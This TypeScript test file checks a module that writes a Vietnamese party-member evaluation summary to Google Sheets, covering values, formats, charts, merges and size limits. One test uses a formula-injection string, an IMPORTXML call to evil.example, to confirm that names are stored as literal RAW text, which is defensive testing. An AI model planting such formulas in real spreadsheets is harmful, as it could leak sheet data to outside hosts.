import type { sheets_v4 } from '@googleapis/sheets';
import { describe, expect, it } from 'vitest';
import { reportSentences } from '../../../functions/src/domain/report.js';
import type { RollupInput } from '../../../functions/src/domain/rollup.js';
import { buildSummaryModel, text, type SummaryModel } from '../../../functions/src/domain/summary-model.js';
import { columnLetter } from '../../../functions/src/domain/sheet.js';
import { cellFormatOf } from '../../../functions/src/summary-writers/format-ranges.js';
import { a1Range, sheetsRequests, type SheetsRefresh } from '../../../functions/src/summary-writers/sheets-requests.js';
import { placeCells } from '../../../functions/src/summary-writers/render.js';
import { blocInput, blocRollup } from '../../fixtures/bloc.js';

const modelOf = (overrides: Partial<RollupInput> = {}): SummaryModel => {
  const r = blocRollup(overrides);
  return buildSummaryModel(r, reportSentences(r));
};
/** The bloc with its first organisation renamed. */
const renamedFirstOrg = (name: string): Partial<RollupInput> => ({
  orgs: blocInput().orgs.map((o, i) => (i === 0 ? { ...o, name } : o)),
});

const FRESH = [{ sheetId: 0, title: 'Trang tính1' }];
const m = modelOf();
const refresh = sheetsRequests(m, FRESH);
const requests = refresh.batchUpdate.requests;

const valuesOf = (q: SheetsRefresh, tab: string) => {
  const found = q.valuesBatchUpdate.data.find((d) => d.range.startsWith(`'${tab}'!`));
  if (!found) throw new Error(`no values for ${tab}`);
  return found.values;
};
/** The repeatCell ranges a tab's formats are sent as. */
const formatsOf = (sheetId: number, rs: readonly sheets_v4.Schema$Request[] = requests) =>
  rs.flatMap((r) => (r.repeatCell?.range?.sheetId === sheetId ? [r.repeatCell] : []));
/**
 * The format the cell at (row, col) ends with: the repeatCell requests applied in order, each
 * setting only the fields its mask names (as Sheets does), on a cleared tab.
 */
const formatAt = (sheetId: number, row: number, col: number, rs: readonly sheets_v4.Schema$Request[] = requests): sheets_v4.Schema$CellFormat | undefined => {
  const cell: Record<string, unknown> = {};
  for (const { range, cell: paint, fields } of formatsOf(sheetId, rs)) {
    const inside = (range?.startRowIndex ?? 0) <= row && row < (range?.endRowIndex ?? 0) && (range?.startColumnIndex ?? 0) <= col && col < (range?.endColumnIndex ?? 0);
    if (!inside) continue;
    for (const field of (fields ?? '').split(',')) {
      const name = field.replace(/^userEnteredFormat\./, '') as keyof sheets_v4.Schema$CellFormat;
      const value = paint?.userEnteredFormat?.[name];
      if (value === undefined) delete cell[name];
      else cell[name] = value;
    }
  }
  return Object.keys(cell).length > 0 ? (cell as sheets_v4.Schema$CellFormat) : undefined;
};
/** Per-column widths a tab receives, expanded from the grouped requests. */
const widthsOf = (sheetId: number): number[] =>
  requests
    .flatMap((r) => (r.updateDimensionProperties?.range?.sheetId === sheetId ? [r.updateDimensionProperties] : []))
    .filter((u) => u.range?.startIndex != null && u.range.dimension === 'COLUMNS')
    .flatMap((u) => Array.from({ length: (u.range?.endIndex ?? 0) - (u.range?.startIndex ?? 0) }, () => u.properties?.pixelSize ?? 0));

describe('sheetsRequests', () => {
  it('writes every tab with RAW values to an exact A1 range', () => {
    expect(refresh.valuesBatchUpdate.valueInputOption).toBe('RAW');
    expect(refresh.valuesBatchUpdate.data.map((d) => d.range)).toEqual([
      "'Tổng hợp'!A1:H68",
      "'Theo tổ chức'!A1:AJ6",
      "'Chưa nộp'!A1:H4",
      "'Báo cáo'!A1:B24",
      "'So sánh'!A1:D29",
    ]);
    const overview = valuesOf(refresh, 'Tổng hợp');
    expect(overview[3]?.[0]).toMatch(/^Bản in để ký: báo cáo Word \(\.docx\).*“npm run report”/);
    expect(overview[0]).toEqual(['TỔNG HỢP KẾT QUẢ ĐÁNH GIÁ, XẾP LOẠI ĐẢNG VIÊN NĂM 2025']);
    expect(overview[6]).toEqual(['Tổng số tổ chức cơ sở đảng', 4, null]);
    expect(overview[7]).toEqual(['Đã nộp', 3, 0.75]);
    expect(overview[18]).toEqual(['Hoàn thành nhiệm vụ (HTNV)', 1, 0.063]);
    expect(overview[31]).toEqual(['Tổng', 11, 0.611, 5, 0.278, 2, 0.111, 18]);
    const orgs = valuesOf(refresh, 'Theo tổ chức');
    expect(orgs[1]?.slice(0, 5)).toEqual([1, 'Chi bộ Văn phòng', 'Đã nộp', 6, 6]);
    expect(orgs[1]?.[33]).toBeCloseTo(45672.70764, 4); // 15/01/2025 16:59 as a serial
    expect(valuesOf(refresh, 'So sánh')[11]).toEqual(['Tỷ lệ đảng viên hoàn thành nhiệm vụ', 0.063, 0.2, -13.7]);
  });

  it('sets the locale and time zone first, then adds the missing tabs with stable ids', () => {
    expect(requests[0]).toEqual({
      updateSpreadsheetProperties: { properties: { locale: 'vi_VN', timeZone: 'Asia/Ho_Chi_Minh' }, fields: 'locale,timeZone' },
    });
    expect(requests.flatMap((r) => (r.addSheet ? [r.addSheet.properties] : []))).toEqual([
      { sheetId: 1000, title: 'Tổng hợp' },
      { sheetId: 1001, title: 'Theo tổ chức' },
      { sheetId: 1002, title: 'Chưa nộp' },
      { sheetId: 1003, title: 'Báo cáo' },
      { sheetId: 1004, title: 'So sánh' },
    ]);
    expect([...refresh.sheetIds.values()]).toEqual([1000, 1001, 1002, 1003, 1004]);
    // A fresh spreadsheet has nothing to clear, and its own tab is left alone.
    expect(requests.filter((r) => r.updateCells?.fields === '*' || r.deleteEmbeddedObject)).toEqual([]);
    expect(JSON.stringify(requests)).not.toContain('"sheetId":0,');
  });

  it('formats numbers per cell: #,##0, 0% / 0.0% fractions, date-time, signed deltas', () => {
    expect(formatAt(1000, 7, 1)?.numberFormat).toEqual({ type: 'NUMBER', pattern: '#,##0' });
    expect(formatAt(1000, 7, 2)?.numberFormat).toEqual({ type: 'PERCENT', pattern: '0.0%' });
    expect(formatAt(1000, 18, 2)?.numberFormat).toEqual({ type: 'PERCENT', pattern: '0.0%' });
    expect(formatAt(1000, 7, 0)?.numberFormat).toBeUndefined();
    expect(formatAt(1001, 1, 33)?.numberFormat).toEqual({ type: 'DATE_TIME', pattern: 'dd/mm/yyyy hh:mm' });
    expect(formatAt(1004, 3, 3)?.numberFormat).toEqual({ type: 'NUMBER', pattern: '+#,##0;-#,##0;0' });
    expect(formatAt(1004, 11, 3)?.numberFormat).toEqual({ type: 'NUMBER', pattern: '+#,##0.0;-#,##0.0;0' });
  });

  it('gives each style its look: bold, italic, wrap, fill, title size', () => {
    expect(formatAt(1000, 0, 0)).toEqual({ textFormat: { bold: true, fontSize: 14 } });
    expect(formatAt(1000, 5, 1)).toEqual({
      textFormat: { bold: true },
      wrapStrategy: 'WRAP',
      horizontalAlignment: 'CENTER',
      backgroundColorStyle: { rgbColor: { red: 217 / 255, green: 217 / 255, blue: 217 / 255 } },
    });
    expect(formatAt(1000, 4, 0)?.backgroundColorStyle).toEqual({ rgbColor: { red: 221 / 255, green: 235 / 255, blue: 247 / 255 } });
    expect(formatAt(1000, 31, 1)).toMatchObject({ numberFormat: { pattern: '#,##0' }, textFormat: { bold: true } });
    expect(formatAt(1000, 2, 0)).toEqual({ textFormat: { italic: true } });
    // “Báo cáo”: the header block centred, each sentence wrapped across both columns.
    expect(formatAt(1003, 0, 1)).toEqual({ textFormat: { bold: true }, horizontalAlignment: 'CENTER' });
    expect(formatAt(1003, 7, 0)).toEqual({ wrapStrategy: 'WRAP' });
    expect(new Set(formatsOf(1000).map((r) => r.fields))).toEqual(
      new Set(['userEnteredFormat.numberFormat', 'userEnteredFormat.textFormat,userEnteredFormat.wrapStrategy,userEnteredFormat.horizontalAlignment,userEnteredFormat.backgroundColorStyle']),
    );
  });

  it('sets column widths, frozen rows and columns, grid size and tab order', () => {
    expect(widthsOf(1000)).toEqual([300, 110, 80, 110, 80, 110, 80, 90]);
    expect(widthsOf(1001)).toEqual(m.tabs[1]?.columnWidths);
    expect(widthsOf(1003)).toEqual([330, 330]);
    const props = requests.flatMap((r) => (r.updateSheetProperties ? [r.updateSheetProperties.properties] : []));
    expect(props).toEqual([
      { sheetId: 1000, index: 0, gridProperties: { rowCount: 1000, columnCount: 26, frozenRowCount: 0, frozenColumnCount: 0 } },
      { sheetId: 1001, index: 1, gridProperties: { rowCount: 1000, columnCount: 36, frozenRowCount: 1, frozenColumnCount: 2 } },
      { sheetId: 1002, index: 2, gridProperties: { rowCount: 1000, columnCount: 26, frozenRowCount: 2, frozenColumnCount: 0 } },
      { sheetId: 1003, index: 3, gridProperties: { rowCount: 1000, columnCount: 26, frozenRowCount: 0, frozenColumnCount: 0 } },
      { sheetId: 1004, index: 4, gridProperties: { rowCount: 1000, columnCount: 26, frozenRowCount: 2, frozenColumnCount: 0 } },
    ]);
  });

  it('sets every row back to 21 px, then the taller rows of wrapped text, runs of one height together', () => {
    const rowsOf = (sheetId: number) =>
      requests.flatMap((r) => {
        const u = r.updateDimensionProperties;
        return u?.range?.sheetId === sheetId && u.range.dimension === 'ROWS' ? [[u.range.startIndex, u.range.endIndex, u.properties?.pixelSize]] : [];
      });
    // “Tổng hợp”: section 1's six rows at 32 px (room for its chart).
    expect(rowsOf(1000)).toEqual([
      [0, 1000, 21],
      [5, 11, 32],
    ]);
    // “Theo tổ chức”: the header row of wrapped headings.
    const orgs = m.tabs[1];
    expect(rowsOf(1001)).toEqual([[0, 1000, 21], ...Object.entries(orgs?.rowHeights ?? {}).map(([row, px]) => [Number(row), Number(row) + 1, px])]);
    expect(rowsOf(1001)[1]?.[0]).toBe(0);
    // “Báo cáo”: each wrapped sentence as tall as its lines.
    const report = m.tabs[3];
    expect(rowsOf(1003).slice(1).every(([start, end, px]) => (end ?? 0) > (start ?? 0) && report?.rowHeights?.[start ?? -1] === px)).toBe(true);
    expect(rowsOf(1003).length).toBeGreaterThan(3);
  });

  it('merges the spanned cells', () => {
    const merges = (sheetId: number) =>
      requests.flatMap((r) => (r.mergeCells?.range?.sheetId === sheetId ? [[r.mergeCells.range.startRowIndex, r.mergeCells.range.startColumnIndex, r.mergeCells.range.endColumnIndex]] : []));
    expect(merges(1000)).toEqual([0, 1, 2, 3, 4, 12, 27, 33, 38, 46, 52, 60].map((row) => [row, 0, 8]));
    expect(merges(1002)).toEqual([[0, 0, 8]]);
    expect(merges(1004)).toEqual([[0, 0, 4]]);
    expect(requests.find((r) => r.mergeCells)?.mergeCells?.mergeType).toBe('MERGE_ALL');
  });

  it('adds the three charts over the right rows and columns of “Tổng hợp”', () => {
    const charts = requests.flatMap((r) => (r.addChart?.chart ? [r.addChart.chart] : []));
    const range = (startRowIndex: number, endRowIndex: number, startColumnIndex: number) => ({
      sourceRange: { sources: [{ sheetId: 1000, startRowIndex, endRowIndex, startColumnIndex, endColumnIndex: startColumnIndex + 1 }] },
    });
    // Beside the three-column tables (columns D–H, 470 px), as tall as the table's rows.
    expect(charts.map((c) => [c.spec?.title, c.position?.overlayPosition])).toEqual([
      ['Xếp loại chất lượng đảng viên', { anchorCell: { sheetId: 1000, rowIndex: 13, columnIndex: 3 }, widthPixels: 470, heightPixels: 260 }],
      ['Nêu gương theo nhóm đảng viên', { anchorCell: { sheetId: 1000, rowIndex: 34, columnIndex: 3 }, widthPixels: 470, heightPixels: 220 }],
      ['Tình hình nộp kết quả đánh giá', { anchorCell: { sheetId: 1000, rowIndex: 5, columnIndex: 3 }, widthPixels: 470, heightPixels: 192 }],
    ]);
    const [levels, exemplary, progress] = charts;
    expect(levels?.spec?.pieChart).toEqual({ legendPosition: 'RIGHT_LEGEND', domain: range(16, 20, 0), series: range(16, 20, 1) });
    expect(progress?.spec?.pieChart).toEqual({ legendPosition: 'RIGHT_LEGEND', domain: range(8, 11, 0), series: range(8, 11, 1) });
    const basic = exemplary?.spec?.basicChart;
    expect(basic?.chartType).toBe('COLUMN');
    // The header row above (row 28) is included so the legend reads the series names.
    expect(basic?.headerCount).toBe(1);
    expect(basic?.domains).toEqual([{ domain: range(28, 31, 0) }]);
    expect(basic?.series?.map((s) => [s.series, s.targetAxis])).toEqual([
      [range(28, 31, 1), 'LEFT_AXIS'],
      [range(28, 31, 3), 'LEFT_AXIS'],
      [range(28, 31, 5), 'LEFT_AXIS'],
    ]);
    const header = valuesOf(refresh, 'Tổng hợp')[28] ?? [];
    expect([header[1], header[3], header[5]]).toEqual(m.charts[1]?.series.map((s) => s.name));
    // Charts come after the tabs they sit on exist.
    const lastAddSheet = Math.max(...requests.map((r, i) => (r.addSheet ? i : -1)));
    expect(lastAddSheet).toBeGreaterThan(0);
    expect(requests.findIndex((r) => r.addChart)).toBeGreaterThan(lastAddSheet);
  });

  it('on existing tabs deletes the charts and clears everything before rebuilding, and avoids taken ids', () => {
    const existing = [
      { sheetId: 0, title: 'Trang tính1' },
      { sheetId: 7, title: 'Tổng hợp', chartIds: [11, 12] },
      { sheetId: 1001, title: 'Ghi chú', chartIds: [13] },
    ];
    const q = sheetsRequests(m, existing);
    expect([...q.sheetIds.entries()]).toEqual([
      ['Tổng hợp', 7],
      ['Theo tổ chức', 1006],
      ['Chưa nộp', 1002],
      ['Báo cáo', 1003],
      ['So sánh', 1004],
    ]);
    const rs = q.batchUpdate.requests;
    expect(rs.filter((r) => r.addSheet).map((r) => r.addSheet?.properties?.title)).toEqual(['Theo tổ chức', 'Chưa nộp', 'Báo cáo', 'So sánh']);
    const clearing = rs.filter((r) => r.deleteEmbeddedObject || r.unmergeCells || r.updateCells?.fields === '*' || (r.updateDimensionProperties && r.updateDimensionProperties.range?.startIndex == null));
    expect(clearing).toEqual([
      { deleteEmbeddedObject: { objectId: 11 } },
      { deleteEmbeddedObject: { objectId: 12 } },
      { unmergeCells: { range: { sheetId: 7 } } },
      { updateCells: { range: { sheetId: 7 }, fields: '*' } },
      { updateDimensionProperties: { range: { sheetId: 7, dimension: 'COLUMNS' }, properties: { pixelSize: 100 }, fields: 'pixelSize' } },
    ]);
    const lastClear = rs.findIndex((r) => r.updateDimensionProperties?.range?.sheetId === 7);
    expect(lastClear).toBeLessThan(rs.findIndex((r) => r.updateSheetProperties));
    expect(rs.findIndex((r) => r.mergeCells)).toBeGreaterThan(lastClear);
    expect(q.batchUpdate.requests.filter((r) => r.addChart).every((r) => r.addChart?.chart?.position?.overlayPosition?.anchorCell?.sheetId === 7)).toBe(true);
  });

  it('keeps a formula-like organisation name as the literal string (RAW)', () => {
    const name = '=IMPORTXML("https://evil.example/x","//a")';
    const q = sheetsRequests(modelOf(renamedFirstOrg(name)), FRESH);
    expect(q.valuesBatchUpdate.valueInputOption).toBe('RAW');
    expect(valuesOf(q, 'Theo tổ chức')[1]?.[1]).toBe(name);
    // On the wire it is a JSON string, not a formula object or a USER_ENTERED value.
    expect(JSON.stringify(q.valuesBatchUpdate)).toContain(`[1,${JSON.stringify(name)},"Đã nộp"`);
  });

  it('strips control characters and caps a cell at 50.000 characters', () => {
    const long = `${'a'.repeat(49_999)}😀tail`;
    const base = modelOf();
    const model: SummaryModel = {
      ...base,
      tabs: base.tabs.map((t) => (t.name === 'Báo cáo' ? { ...t, rows: [[text('+1\u0000\u0007 a\r\nb\tc\u001b')], [text('@cmd')], [text(long)]] } : t)),
    };
    const rows = valuesOf(sheetsRequests(model, FRESH), 'Báo cáo');
    expect(rows.map((r) => (typeof r[0] === 'string' ? r[0].slice(0, 20) : r[0]))).toEqual(['+1 a\nb\tc', '@cmd', 'a'.repeat(20)]);
    // The emoji would straddle the limit: cut before it rather than leave half a pair.
    expect(String(rows[2]?.[0]).length).toBe(49_999);
  });

  it('names columns and quotes tab names in A1 ranges', () => {
    expect([0, 25, 26, 35, 701, 702].map(columnLetter)).toEqual(['A', 'Z', 'AA', 'AJ', 'ZZ', 'AAA']);
    expect(a1Range("Đảng uỷ's", 3, 2)).toBe("'Đảng uỷ''s'!A1:B3");
  });

  /** A bloc of `count` organisations, each a copy of the fixture's, with its own id and name, spread around the deadline. */
  const largeModel = (count: number): SummaryModel => {
    const base = blocInput().orgs;
    const orgs = Array.from({ length: count }, (_, i) => {
      const o = base[i % base.length];
      if (!o) throw new Error('empty fixture');
      // Without card lists: copies of one organisation would list the same cards, every one a duplicate.
      const tally = o.tally && { ...o.tally, cardNumbers: [] };
      return { ...o, tally, orgId: `to-${i + 1}`, name: `Chi bộ số ${i + 1}`, expectedMembers: 10 + (i % 181) };
    });
    return modelOf({ orgs });
  };

  it('formats by ranges that give every cell its own format; where a format is invisible it may differ', () => {
    for (const model of [m, largeModel(300)]) {
      const rs = sheetsRequests(model, FRESH).batchUpdate.requests;
      model.tabs.forEach((tab, t) => {
        const sheetId = 1000 + t;
        const columns = Math.max(...tab.rows.map((row) => placeCells(row).reduce((n, { cell }) => n + Math.max(1, cell.span ?? 1), 0)), tab.columnWidths.length) + 1;
        tab.rows.forEach((row, r) => {
          const placed = new Map(placeCells(row).map(({ col, cell }) => [col, cell]));
          const covered = new Set(placeCells(row).flatMap(({ col, cell }) => Array.from({ length: Math.max(1, cell.span ?? 1) - 1 }, (_, i) => col + 1 + i)));
          for (let col = 0; col < columns; col++) {
            const got = formatAt(sheetId, r, col, rs) ?? {};
            const where = `${tab.name} ${r}:${col}`;
            if (covered.has(col)) continue; // hidden by a merge
            const cell = placed.get(col);
            const wanted = cell ? (cellFormatOf(cell) ?? {}) : {};
            const { numberFormat: gotNumber, ...gotLook } = got;
            const { numberFormat: wantedNumber, ...wantedLook } = wanted;
            // A number format shows only on a number.
            if (typeof cell?.value === 'number') expect(gotNumber, where).toEqual(wantedNumber);
            // A look shows on text; on an empty cell only its fill does.
            const empty = cell === undefined || cell.value === null || cell.value === '';
            if (empty) expect(gotLook.backgroundColorStyle, where).toEqual(wantedLook.backgroundColorStyle);
            else expect(gotLook, where).toEqual(wantedLook);
          }
        });
      });
      expect(rs.some((r) => r.updateCells?.rows)).toBe(false);
    }
  });

  it('the batchUpdate body for 1.000 and 5.000 organisations stays under Google’s 2 MB', () => {
    const bytes = (count: number) => Buffer.byteLength(JSON.stringify(sheetsRequests(largeModel(count), FRESH).batchUpdate));
    const [thousand, fiveThousand] = [bytes(1_000), bytes(5_000)];
    expect(thousand).toBeLessThan(2_000_000);
    expect(fiveThousand).toBeLessThan(2_000_000);
    console.info(`[sheets] batchUpdate body: 1.000 organisations ${thousand} bytes, 5.000 organisations ${fiveThousand} bytes`);
  }, 120_000);

  it('refuses, before any request, a summary of more than the 10 million cells a spreadsheet holds', () => {
    const tall = { ...m, tabs: [{ name: 'Theo tổ chức' as const, columnWidths: Array.from({ length: 40 }, () => 100), frozenRows: 0, frozenColumns: 0, rows: Array.from({ length: 250_001 }, () => []) }] };
    expect(() => sheetsRequests(tall, FRESH)).toThrow(
      expect.objectContaining({ code: 'SUMMARY_TOO_LARGE', message: expect.stringContaining('Bảng tổng hợp cần 10.000.040 ô, vượt quá 10.000.000 ô') }),
    );
  });
});
